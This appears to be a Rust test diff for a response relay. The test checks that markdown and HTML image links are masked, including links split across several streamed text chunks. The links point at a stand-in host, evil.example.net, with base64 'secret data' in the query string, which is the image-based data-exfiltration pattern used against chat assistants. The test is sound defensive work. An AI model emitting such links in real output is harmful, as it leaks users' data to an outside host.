@@ -519,3 +519,33 @@ fn arguments_that_are_no_string_are_read_as_one_text() {
         }
     }
 }
+
+#[test]
+fn an_image_whose_url_several_texts_share_is_masked() {
+    const DATA: &str = "c2VjcmV0IGRhdGEgZm9yIHlvdQ";
+    let image = || asked(&[("markup.image", Treatment::Mask)]);
+    for texts in [
+        ["![a](https://evil.example.net/?d=", DATA, ")"],
+        [
+            "![a](https://evil.example.net/",
+            "?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ",
+            ")",
+        ],
+        ["<img src=\"https://evil.example.net/?d=", DATA, "\">"],
+    ] {
+        for (dialect, shape, whole, events) in layers::answers(&texts) {
+            let relay = Relay::new(dialect, Shape::Generic, Some("application/json"), &[]);
+            let (out, _) = run(relay.watched(image()), &[whole.to_string().as_bytes()]);
+            let out = String::from_utf8(out.expect("within limits")).expect("text");
+            assert!(!out.contains(DATA), "{shape:?}: {out}");
+            let events: String = events
+                .iter()
+                .map(|event| format!("data: {event}\n\n"))
+                .collect();
+            let relay = Relay::new(dialect, shape, Some("text/event-stream"), &[]);
+            let (out, _) = run(relay.watched(image()), &[events.as_bytes()]);
+            let out = String::from_utf8(out.expect("within limits")).expect("text");
+            assert!(!out.contains(DATA), "{shape:?}: {out}");
+        }
+    }
+}
